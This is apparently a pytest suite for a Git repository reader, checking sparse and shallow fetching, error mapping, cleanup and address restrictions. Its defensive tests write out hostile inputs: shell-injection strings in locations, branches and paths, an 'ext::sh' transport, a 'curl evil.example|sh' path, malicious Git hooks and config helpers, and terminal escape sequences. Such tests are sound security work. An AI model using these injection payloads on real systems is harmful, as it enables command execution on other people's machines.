"""Reading repositories with the real program: what is fetched, what never is, and what nobody's words can do."""

from __future__ import annotations

import os
import re
import shlex
import socket
from collections.abc import Mapping
from contextlib import AsyncExitStack
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import anyio
import pytest
from anyio.abc import SocketAttribute, SocketStream

from denizen.adapters.git import GitReader
from denizen.adapters.git.program import Git, RemoteAddress, explain_git_error
from denizen.domain.errors import DenizenError, LimitExceeded, NotAllowed, NotFound, Unavailable
from denizen.domain.source import Source, SourceKind
from denizen.ports.source import ReadingProgress
from tests.repository import ENVIRONMENT, Repository, create_repository
from tests.timing import HANG_LIMIT_S

pytestmark = pytest.mark.anyio
NOW = datetime(2026, 11, 22, tzinfo=UTC)


def source(repository: Repository, **given: Any) -> Source:
    plain = Source(id="s", kind=SourceKind.GIT, location=f"file://{repository.folder}", created_at=NOW, updated_at=NOW)
    return replace(plain, **given)


async def read(reader: GitReader, wanted: Source) -> tuple[str, Mapping[str, bytes]]:
    async with reader.open(wanted, ignore) as tree:
        return tree.revision, {file.path: file.read() for file in tree.files}


def ignore(progress: ReadingProgress) -> None:
    pass


@pytest.fixture
def reader(tmp_path: Path) -> GitReader:
    return GitReader(Git(ENVIRONMENT), tmp_path / "clones")


@pytest.fixture
def site(tmp_path: Path) -> Repository:
    files = {
        "docs/a.md": "A",
        "docs/deep/b.json": "{}",
        "img/p.png": "PNG" * 1000,
        "README.md": "# R",
        "docs/c.py": "c",
    }
    return create_repository(tmp_path / "site", files)


@pytest.mark.proves("S26")
async def test_only_the_documents_below_the_content_path_are_read(reader: GitReader, site: Repository) -> None:
    head = site.git("rev-parse", "HEAD")
    assert await read(reader, source(site, content_path="docs")) == (head, {"a.md": b"A", "deep/b.json": b"{}"})
    assert sorted((await read(reader, source(site)))[1]) == ["README.md", "docs/a.md", "docs/deep/b.json"]


@pytest.mark.proves("S26-readme")
async def test_of_a_server_that_can_only_the_readme_comes_where_nothing_else_is_wanted(
    reader: GitReader, site: Repository, tmp_path: Path
) -> None:
    site.git("config", "uploadpack.allowFilter", "true")
    site.git("config", "uploadpack.allowAnySHA1InWant", "true")
    document, readme = (site.git("rev-parse", f"HEAD:{path}") for path in ("docs/a.md", "README.md"))
    assert (await read(reader, source(site, readme_only=True)))[1] == {"README.md": b"# R"}
    there = Repository(tmp_path / "clones/s.git").git("cat-file", "--batch-all-objects", "--batch-check")
    assert readme in there and document not in there


@pytest.mark.proves("S26")
async def test_the_clone_is_shallow_and_of_a_server_that_can_only_the_documents_come(
    reader: GitReader, site: Repository, tmp_path: Path
) -> None:
    picture = site.git("rev-parse", "HEAD:img/p.png")
    outside = site.git("rev-parse", "HEAD:README.md")
    site.git("config", "uploadpack.allowFilter", "true")
    site.git("config", "uploadpack.allowAnySHA1InWant", "true")
    site.write("docs/a.md", "A2")
    head = site.commit()
    assert await read(reader, source(site, content_path="docs")) == (head, {"a.md": b"A2", "deep/b.json": b"{}"})
    clone = Repository(tmp_path / "clones/s.git")
    assert clone.git("rev-list", "--count", "refs/denizen/head") == "1"
    there = clone.git("cat-file", "--batch-all-objects", "--batch-check")
    assert picture not in there and outside not in there


@pytest.mark.proves("S26")
async def test_a_branch_and_both_kinds_of_tags_can_be_read(reader: GitReader, site: Repository) -> None:
    first = site.git("rev-parse", "HEAD")
    site.git("tag", "light")
    site.git("tag", "--annotate", "heavy", "--message", "One.")
    site.git("checkout", "--quiet", "-b", "feature/next")
    site.write("docs/new.md", "N")
    second = site.commit()
    site.git("checkout", "--quiet", "main")
    for name, commit in (("light", first), ("heavy", first), ("feature/next", second), ("main", first)):
        wanted = source(site, branch=name)
        assert await reader.look(wanted) == commit
        assert (await read(reader, wanted))[0] == commit


async def test_the_next_reading_brings_only_what_is_new_and_history_that_was_rewritten_is_no_problem(
    reader: GitReader, site: Repository
) -> None:
    await read(reader, source(site))
    site.write("docs/a.md", "rewritten")
    site.git("add", "--all")
    site.git("commit", "--quiet", "--amend", "--message", "Otherwise.")
    head = site.git("rev-parse", "HEAD")
    revision, files = await read(reader, source(site))
    assert (revision, files["docs/a.md"]) == (head, b"rewritten")


async def test_links_submodules_and_hidden_files_are_left_out_and_odd_names_left_to_the_library(
    reader: GitReader, site: Repository
) -> None:
    (site.folder / "docs/link.md").symlink_to("/etc/passwd")
    (site.folder / "docs/line\nbreak.md").write_text("x")
    (site.folder / "docs/back\\slash.md").write_text("x")
    (site.folder / "docs/.hidden.md").write_text("x")
    (site.folder / "docs/über.md").write_text("fine")
    commit = site.git("rev-parse", "HEAD")
    site.git("update-index", "--add", "--cacheinfo", f"160000,{commit},docs/sub.md")
    site.commit()
    _, files = await read(reader, source(site, content_path="docs"))
    assert sorted(files) == ["a.md", "back\\slash.md", "deep/b.json", "line\nbreak.md", "über.md"]


@pytest.mark.proves("SW7-quoting")
async def test_nothing_that_a_repository_or_the_operators_configuration_names_is_run(
    site: Repository, tmp_path: Path
) -> None:
    marker = tmp_path / "trap"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    script.chmod(0o755)
    for hook in ("post-checkout", "reference-transaction", "post-index-change"):
        (site.folder / ".git/hooks").mkdir(exist_ok=True)
        (site.folder / f".git/hooks/{hook}").write_text(script.read_text())
        (site.folder / f".git/hooks/{hook}").chmod(0o755)
    site.write(".gitattributes", "*.md filter=evil diff=evil\n")
    site.write(".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% x\n')
    home = tmp_path / "someone"
    home.mkdir()
    (home / ".gitconfig").write_text(
        f"[core]\n\thooksPath = {site.folder}/.git/hooks\n\tfsmonitor = {script}\n\tsshCommand = {script}\n"
        f'[credential]\n\thelper = {script}\n[filter "evil"]\n\tsmudge = {script}\n\trequired = true\n'
        f'[url "/nonexistent/"]\n\tinsteadOf = file://\n'
    )
    site.git("-c", "core.hooksPath=/dev/null", "add", "--all")
    site.git("-c", "core.hooksPath=/dev/null", "commit", "--quiet", "--message", "Traps.")
    environment = {**ENVIRONMENT, "HOME": str(home), "GIT_SSH_COMMAND": str(script), "GIT_ASKPASS": str(script)}
    environment = {key: value for key, value in environment.items() if key != "GIT_CONFIG_GLOBAL"}
    reader = GitReader(Git({**environment, "GIT_DIR": "/nonexistent"}), tmp_path / "clones")
    _, files = await read(reader, source(site))
    assert files["docs/a.md"] == b"A"
    assert not marker.exists()


@pytest.mark.proves("SW7-quoting")
@pytest.mark.parametrize(
    "location",
    [
        "ext::sh -c touch% {marker}",
        "--upload-pack=touch {marker}",
        "fd::0/x",
        "$(touch {marker})",
        "`touch {marker}`",
        "x; touch {marker} #",
    ],
)
async def test_even_a_location_that_was_never_checked_runs_nothing(
    reader: GitReader, site: Repository, tmp_path: Path, location: str
) -> None:
    marker = tmp_path / "trap"
    with pytest.raises(DenizenError):
        await reader.look(source(site, location=location.format(marker=marker)))
    assert not marker.exists()


@pytest.mark.proves("SW7-quoting")
@pytest.mark.parametrize("field", ["branch", "content_path"])
@pytest.mark.parametrize("text", ["$(touch {marker})", "`touch {marker}`", "x; touch {marker} #"])
async def test_no_field_reaches_a_shell(
    reader: GitReader, site: Repository, tmp_path: Path, field: str, text: str
) -> None:
    marker = tmp_path / "trap"
    with pytest.raises(DenizenError):
        await read(reader, source(site, **{field: text.format(marker=marker)}))
    assert not marker.exists()


@pytest.mark.proves("SW7-quoting")
async def test_a_repository_whose_names_are_commands_is_read_and_runs_nothing(
    reader: GitReader, tmp_path: Path
) -> None:
    marker = tmp_path / "trap"
    trap = f"$(touch${{IFS}}{marker})"
    repository = create_repository(tmp_path / trap, {f"{trap}/a.md": "A"})
    repository.git("branch", "--move", trap)
    _, files = await read(reader, source(repository, branch=trap, content_path=trap))
    assert files == {"a.md": b"A"}
    assert not marker.exists()


async def test_no_secret_of_the_process_reaches_git() -> None:
    given = {"PATH": os.environ["PATH"], "ANTHROPIC_API_KEY": "sk", "GIT_TRACE": "1", "LD_PRELOAD": "x"}
    assert not {"ANTHROPIC_API_KEY", "GIT_TRACE", "LD_PRELOAD"} & Git(given).environ.keys()


@pytest.mark.proves("S25-limits")
async def test_what_is_not_there_is_told_apart(reader: GitReader, site: Repository, tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    bare = Repository(empty)
    for wanted, code in (
        (source(site, location="file:///nonexistent/x.git"), "source_missing"),
        (source(bare), "source_missing"),
        (source(site, branch="nope"), "branch_missing"),
    ):
        with pytest.raises(NotFound) as missing:
            await reader.look(wanted)
        assert missing.value.code == code
    bare.git("init", "--quiet")
    with pytest.raises(NotFound) as nothing:
        await reader.look(source(bare))
    assert nothing.value.code == "branch_missing"


async def test_a_command_that_people_are_told_has_the_address_as_one_word(reader: GitReader, tmp_path: Path) -> None:
    hostile = create_repository(tmp_path / "a;curl${IFS}evil.example|sh", {"a.md": "A"})
    with pytest.raises(NotFound) as missing:
        await reader.look(source(hostile, branch="nope"))
    [command] = re.findall("`(.*)`", missing.value.fix)
    assert shlex.split(command) == ["git", "ls-remote", f"file://{hostile.folder}"]
    assert list(shlex.shlex(command, posix=True, punctuation_chars=True)) == shlex.split(command)


@pytest.mark.proves("S25-limits")
@pytest.mark.parametrize(
    ("said", "family", "code"),
    [
        ("fatal: unable to access 'https://x/': The requested URL returned error: 301", "NotFound", "source_moved"),
        ("fatal: unable to access 'https://x/': Could not resolve host: x", "Unavailable", "source_unavailable"),
        ("fatal: unable to access: Recv failure: Connection reset by peer", "Unavailable", "source_unavailable"),
        ("error: RPC failed; curl 92\nfatal: early EOF", "Unavailable", "source_unavailable"),
        ("fatal: unable to access: The requested URL returned error: 503", "Unavailable", "source_unavailable"),
        ("remote: Repository not found.\nfatal: repository 'https://x/' not found", "NotFound", "source_missing"),
        ("fatal: could not read Username for 'x': terminal prompts disabled", "NeedsAttention", "source_denied"),
        ("git@x: Permission denied (publickey).\nfatal: Could not read.", "NeedsAttention", "source_denied"),
        ("Host key verification failed.", "NeedsAttention", "source_denied"),
        ("fatal: detected dubious ownership in repository at '/x'", "NeedsAttention", "source_denied"),
        ("fatal: transport 'ext' not allowed", "InvalidInput", "source_invalid"),
        ("fatal: couldn't find remote ref refs/heads/x", "NotFound", "branch_missing"),
        ("error: cannot run ssh: No such file or directory\nfatal: unable to fork", "NeedsAttention", "git_missing"),
        ("fatal: write error: No space left on device", "NeedsAttention", "library_unusable"),
        ("fatal: Unable to create '/x/shallow.lock': File exists.", "Unavailable", "source_damaged"),
        ("fatal: loose object 12ab is corrupt", "Unavailable", "source_damaged"),
    ],
)
async def test_what_git_says_becomes_an_error_with_its_family(said: str, family: str, code: str) -> None:
    error = explain_git_error(said)
    assert (error.family, error.code) == (family, code)
    assert error.why


async def test_a_clone_that_is_damaged_is_made_anew(reader: GitReader, site: Repository, tmp_path: Path) -> None:
    await read(reader, source(site))
    for pack in (tmp_path / "clones/s.git/objects").rglob("*"):
        if pack.is_file():
            pack.chmod(0o600)
            pack.write_bytes(b"broken")
    async with AsyncExitStack() as stack:
        with pytest.raises((Unavailable, DenizenError)):
            await stack.enter_async_context(reader.open(source(site), ignore))
    assert (await read(reader, source(site)))[1]["docs/a.md"] == b"A"


async def test_what_a_fetch_that_was_killed_left_behind_is_no_lasting_harm(
    reader: GitReader, site: Repository, tmp_path: Path
) -> None:
    await read(reader, source(site))
    (tmp_path / "clones/s.git/refs/denizen/head.lock").write_text("")
    site.write("docs/a.md", "new")
    site.commit()
    with pytest.raises(Unavailable) as refused:
        await read(reader, source(site))
    assert refused.value.code == "source_damaged"
    assert (await read(reader, source(site)))[1]["docs/a.md"] == b"new"


async def test_a_source_that_moved_is_not_read_from_the_old_place(
    reader: GitReader, site: Repository, tmp_path: Path
) -> None:
    await read(reader, source(site))
    other = create_repository(tmp_path / "other", {"o.md": "O"})
    assert (await read(reader, source(other)))[1] == {"o.md": b"O"}
    await reader.forget(["s"])
    assert not (tmp_path / "clones/s.git").exists()


async def test_a_repository_beyond_all_bounds_is_given_up_and_leaves_nothing(site: Repository, tmp_path: Path) -> None:
    (site.folder / "docs/noise.md").write_bytes(os.urandom(3_000_000))
    site.git("add", "--all")
    site.git("commit", "--quiet", "--message", "Noise.")
    reader = GitReader(Git(ENVIRONMENT, max_file_bytes=1_000_000), tmp_path / "clones")
    with pytest.raises(LimitExceeded) as raised:
        await read(reader, source(site))
    assert raised.value.code == "repository_too_large"
    assert [path.name for path in (tmp_path / "clones").iterdir()] == ["s.lock"]


async def test_of_a_file_that_is_not_wanted_only_the_size_is_looked_up(reader: GitReader, site: Repository) -> None:
    (site.folder / "docs/bomb.md").write_bytes(bytes(40_000_000))
    site.git("add", "--all")
    site.git("commit", "--quiet", "--message", "Bomb.")
    async with reader.open(source(site), ignore) as tree:
        files = {file.path: file.read() for file in tree.files if file.size_bytes < 1000}
    assert {"docs/a.md", "docs/deep/b.json"} <= files.keys()
    assert "docs/bomb.md" not in files


async def test_what_a_server_says_cannot_work_on_a_terminal() -> None:
    said = "remote: \x1b]0;owned\x07\x1b[2J\u202egone\x9b1m\nfatal: early EOF"
    assert not set("\x1b\x07\u202e\x9b") & set(explain_git_error(said).why)


async def test_what_a_killed_fetch_has_not_finished_is_removed_at_the_next_one(
    reader: GitReader, site: Repository, tmp_path: Path
) -> None:
    before = await read(reader, source(site))
    place = tmp_path / "clones/s.git"
    for left in ("objects/pack/tmp_pack_a1b2c3", "objects/pack/tmp_idx_x", "objects/ab/tmp_obj_x", "shallow.lock"):
        (place / left).parent.mkdir(exist_ok=True)
        (place / left).write_bytes(b"half of it" * 1000)
    site.write("docs/new.md", "new")
    site.commit()
    after = await read(reader, source(site))
    assert after[1] == {**before[1], "docs/new.md": b"new"}
    assert not [path.name for path in place.rglob("*") if path.name.startswith("tmp_") or path.suffix == ".lock"]


async def test_two_processes_do_not_fetch_into_one_clone_at_the_same_time(
    reader: GitReader, site: Repository, tmp_path: Path
) -> None:
    other = GitReader(Git(ENVIRONMENT), tmp_path / "clones")  # it knows nothing of the first one
    place, inside = tmp_path / "clones/s.git/objects/pack/tmp_pack_of_the_first", anyio.Event()

    async def second() -> None:
        await read(other, source(site))
        inside.set()

    with anyio.fail_after(HANG_LIMIT_S):
        async with anyio.create_task_group() as group:
            async with reader.open(source(site), ignore):
                place.write_bytes(b"it is being written")
                group.start_soon(second)
                await anyio.wait_all_tasks_blocked()
                assert place.exists() and not inside.is_set()
            await inside.wait()
    assert not place.exists()


@pytest.mark.proves("VW5")
async def test_an_address_that_may_not_be_reached_is_not_connected_to(tmp_path: Path) -> None:
    async def resolve(location: str) -> RemoteAddress:
        raise NotAllowed(f"{location} may not be reached")

    reader = GitReader(Git(ENVIRONMENT, resolve=resolve), tmp_path / "clones")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        wanted = make_https_source(f"https://127.0.0.1:{listener.getsockname()[1]}/docs.git")
        with pytest.raises(NotAllowed, match="may not be reached"):
            await reader.look(wanted)
        with pytest.raises(NotAllowed, match="may not be reached"):
            await read(reader, wanted)
        with pytest.raises(BlockingIOError):  # nobody has connected
            listener.accept()


@pytest.mark.proves("VW5")
async def test_git_connects_to_the_address_that_was_checked_and_to_no_other(tmp_path: Path) -> None:
    async def resolve(location: str) -> RemoteAddress:
        return RemoteAddress(location, ("127.0.0.1",))

    reader = GitReader(Git(ENVIRONMENT, resolve=resolve), tmp_path / "clones")
    listener = await anyio.create_tcp_listener(local_host="127.0.0.1")
    async with listener, anyio.create_task_group() as group:
        wanted = make_https_source(f"https://git.invalid:{listener.extra(SocketAttribute.local_port)}/docs.git")
        seen = anyio.Event()

        async def hang_up(stream: SocketStream) -> None:
            seen.set()
            await stream.aclose()

        group.start_soon(listener.serve, hang_up)
        with pytest.raises(Unavailable):
            await reader.look(wanted)
        with anyio.fail_after(HANG_LIMIT_S):
            await seen.wait()
        group.cancel_scope.cancel()


async def test_a_repository_that_has_moved_is_read_where_it_is_now(tmp_path: Path, site: Repository) -> None:
    async def resolve(location: str) -> RemoteAddress:
        assert location == "https://git.invalid/docs"
        return RemoteAddress(f"file://{site.folder}", ("127.0.0.1",))

    reader = GitReader(Git(ENVIRONMENT, resolve=resolve), tmp_path / "clones")
    wanted = replace(make_https_source("https://git.invalid/docs"), content_path="docs")
    assert (await read(reader, wanted))[1] == {"a.md": b"A", "deep/b.json": b"{}"}


async def test_a_proxy_decides_itself_what_can_be_reached() -> None:
    async def resolve(location: str) -> RemoteAddress:
        raise NotAllowed(location)

    git = Git({**ENVIRONMENT, "https_proxy": "http://127.0.0.1:1"}, resolve=resolve)
    assert await git.open_remote("https://git.invalid/docs.git") is git


def make_https_source(location: str) -> Source:
    return Source(id="s", kind=SourceKind.GIT, location=location, created_at=NOW, updated_at=NOW)
